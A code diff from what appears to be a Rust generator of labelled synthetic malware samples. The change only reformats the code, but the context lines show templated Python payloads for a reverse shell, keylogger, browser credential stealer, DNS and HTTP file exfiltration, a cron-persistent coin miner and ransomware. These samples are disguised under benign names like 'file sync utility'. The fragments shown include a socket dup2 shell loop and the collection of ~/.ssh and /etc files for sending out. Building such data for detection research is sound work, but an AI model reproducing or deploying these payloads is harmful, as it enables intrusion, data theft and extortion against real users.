@@ -7,13 +7,41 @@ use super::python::doc;
 use super::{Draft, Family};
 
 pub(crate) const FAMILIES: &[Family] = &[
-    Family { name: "reverse-shell", description: "A reverse shell that hands an interactive shell to a remote operator", gen: reverse_shell },
-    Family { name: "keylogger", description: "A keylogger that records keystrokes and ships them to an operator", gen: keylogger },
-    Family { name: "browser-credential-stealer", description: "An infostealer that decrypts saved browser passwords and cookies", gen: browser_stealer },
-    Family { name: "dns-exfiltration", description: "A data exfiltration tool that tunnels files out through DNS queries", gen: dns_exfil },
-    Family { name: "http-exfiltration", description: "A document stealer that uploads files to a remote server over HTTP", gen: http_exfil },
-    Family { name: "coin-miner", description: "A cryptocurrency miner installer that hijacks the host's CPU", gen: miner },
-    Family { name: "ransomware", description: "Ransomware that destroys backups, encrypts files and leaves a ransom note", gen: ransomware },
+    Family {
+        name: "reverse-shell",
+        description: "A reverse shell that hands an interactive shell to a remote operator",
+        gen: reverse_shell,
+    },
+    Family {
+        name: "keylogger",
+        description: "A keylogger that records keystrokes and ships them to an operator",
+        gen: keylogger,
+    },
+    Family {
+        name: "browser-credential-stealer",
+        description: "An infostealer that decrypts saved browser passwords and cookies",
+        gen: browser_stealer,
+    },
+    Family {
+        name: "dns-exfiltration",
+        description: "A data exfiltration tool that tunnels files out through DNS queries",
+        gen: dns_exfil,
+    },
+    Family {
+        name: "http-exfiltration",
+        description: "A document stealer that uploads files to a remote server over HTTP",
+        gen: http_exfil,
+    },
+    Family {
+        name: "coin-miner",
+        description: "A cryptocurrency miner installer that hijacks the host's CPU",
+        gen: miner,
+    },
+    Family {
+        name: "ransomware",
+        description: "Ransomware that destroys backups, encrypts files and leaves a ransom note",
+        gen: ransomware,
+    },
 ];
 
 fn reverse_shell(r: &mut R) -> Draft {
@@ -43,17 +71,25 @@ def connect():
         c.push_str("    subprocess.call([\"/bin/sh\", \"-i\"])\n");
     }
     c.push_str("\n\nwhile True:\n    try:\n        connect()\n    except OSError:\n        pass\n    time.sleep(30)\n");
-    let shell = if pty { "pty.spawn(\"/bin/bash\")" } else { "subprocess.call with /bin/sh -i" };
+    let shell = if pty {
+        "pty.spawn(\"/bin/bash\")"
+    } else {
+        "subprocess.call with /bin/sh -i"
+    };
     Draft {
         content: c,
-        purpose: format!("connects back to {host} on TCP port {port} and gives the remote side a shell"),
+        purpose: format!(
+            "connects back to {host} on TCP port {port} and gives the remote side a shell"
+        ),
         steps: vec![
             format!("opens a TCP socket to {host}:{port}"),
             "duplicates the socket onto file descriptors 0, 1 and 2 with os.dup2".into(),
             format!("starts an interactive shell through {shell}"),
             "retries every 30 seconds in an endless loop, swallowing connection errors".into(),
         ],
-        effects: vec![format!("The remote party at {host} can run arbitrary commands as the user running the script.")],
+        effects: vec![format!(
+            "The remote party at {host} can run arbitrary commands as the user running the script."
+        )],
         behaviours: vec![
             "Creates a reverse shell (T1059.006)".into(),
             "Uses a non-standard port for C2 (T1571)".into(),
@@ -65,7 +101,10 @@ def connect():
 fn keylogger(r: &mut R) -> Draft {
     let host = names::c2_domain(r);
     let mins = r.random_range(2..30);
-    let logf = pick(r, &["~/.cache/.kl.log", "%APPDATA%\\syslog.dat", "/tmp/.x11-log"]);
+    let logf = pick(
+        r,
+        &["~/.cache/.kl.log", "%APPDATA%\\syslog.dat", "/tmp/.x11-log"],
+    );
     let mut c = doc(r, "input helper");
     c.push_str(&fill(
         r#"import os
@@ -126,7 +165,11 @@ with keyboard.Listener(on_press=on_press) as listener:
 }
 
 fn browser_stealer(r: &mut R) -> Draft {
-    let token = format!("{}:{}", r.random_range(1_000_000_000u64..9_999_999_999), names::token(r, 35));
+    let token = format!(
+        "{}:{}",
+        r.random_range(1_000_000_000u64..9_999_999_999),
+        names::token(r, 35)
+    );
     let chat = r.random_range(100_000_000u64..999_999_999);
     let c = fill(
         r#"import base64
@@ -210,7 +253,15 @@ requests.post(
 fn dns_exfil(r: &mut R) -> Draft {
     let dom = names::c2_domain(r);
     let chunk = pick(r, &[30, 40, 60]);
-    let target = pick(r, &["~/Documents", "/etc", "~/.ssh", "C:\\Users\\Public\\Documents"]);
+    let target = pick(
+        r,
+        &[
+            "~/Documents",
+            "/etc",
+            "~/.ssh",
+            "C:\\Users\\Public\\Documents",
+        ],
+    );
     let mut c = doc(r, "dns health probe");
     c.push_str(&fill(
         r#"import base64
@@ -249,7 +300,11 @@ for dirpath, _, files in os.walk(ROOT):
         if os.path.getsize(full) < 512 * 1024:
             exfil(full)
 "#,
-        &[("DOM", &dom), ("CHUNK", &chunk.to_string()), ("TARGET", target)],
+        &[
+            ("DOM", &dom),
+            ("CHUNK", &chunk.to_string()),
+            ("TARGET", target),
+        ],
     ));
     Draft {
         content: c,
@@ -273,7 +328,14 @@ for dirpath, _, files in os.walk(ROOT):
 fn http_exfil(r: &mut R) -> Draft {
     let host = names::c2_host(r);
     let port = pick(r, &[80, 443, 8080, 8443]);
-    let exts = pick(r, &["('.pdf', '.docx', '.xlsx', '.kdbx')", "('.doc', '.xls', '.txt', '.csv', '.pst')", "('.pdf', '.dwg', '.pptx', '.zip')"]);
+    let exts = pick(
+        r,
+        &[
+            "('.pdf', '.docx', '.xlsx', '.kdbx')",
+            "('.doc', '.xls', '.txt', '.csv', '.pst')",
+            "('.pdf', '.dwg', '.pptx', '.zip')",
+        ],
+    );
     let c = fill(
         r#"import os
 import platform
@@ -338,7 +400,11 @@ if batch:
 
 fn miner(r: &mut R) -> Draft {
     let host = names::c2_host(r);
-    let pool = format!("{}:{}", names::c2_domain(r), pick(r, &[3333, 4444, 5555, 443]));
+    let pool = format!(
+        "{}:{}",
+        names::c2_domain(r),
+        pick(r, &[3333, 4444, 5555, 443])
+    );
     let wallet = names::wallet(r);
     let name = names::stealth_name(r);
     let c = fill(
@@ -385,7 +451,12 @@ if not running():
     if binary not in existing:
         subprocess.run(["crontab", "-"], input=existing + cron, text=True)
 "#,
-        &[("NAME", name), ("HOST", &host), ("POOL", &pool), ("WALLET", &wallet)],
+        &[
+            ("NAME", name),
+            ("HOST", &host),
+            ("POOL", &pool),
+            ("WALLET", &wallet),
+        ],
     );
     Draft {
         content: c,
@@ -409,7 +480,11 @@ if not running():
 
 fn ransomware(r: &mut R) -> Draft {
     let ext = format!(".{}", names::token(r, 5));
-    let email = format!("{}@{}", names::token(r, 8), pick(r, &["protonmail.com", "onionmail.org", "tutanota.com"]));
+    let email = format!(
+        "{}@{}",
+        names::token(r, 8),
+        pick(r, &["protonmail.com", "onionmail.org", "tutanota.com"])
+    );
     let host = names::c2_host(r);
     let mut c = doc(r, "file sync utility");
     c.push_str(&fill(
